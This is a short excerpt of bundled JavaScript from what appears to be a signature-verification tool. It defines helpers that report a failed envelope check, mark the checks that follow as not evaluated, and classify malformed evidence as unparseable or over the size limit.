function ends({ file }, reason, message, at = ENVELOPE_CHECKS.form) {
    const checks = Object.values(ENVELOPE_CHECKS);
    const index = checks.findIndex((check) => check === at);
    const before = checks.slice(0, index).map((check) => (0,finding/* pass */.IX)(check, file, 'is an envelope with a statement, in canonical form'));
    return {
        findings: [...before, (0,finding/* failure */.V2)(at, reason, file, message), ...unknowns(file, checks.slice(index + 1))],
        warnings: [],
        authentic: false,
        statement: undefined,
        signedBy: [],
    };
}
function unknowns(file, checks) {
    return checks.map((check) => (0,finding/* unknown */.L5)(check, file, 'could not be looked at: what it rests on failed'));
}
function malformed(problems) {
    return problems.some((problem) => problem.overLimit === true) ? 'evidence_over_limit' : 'evidence_unparseable';
}

/***/ })

};
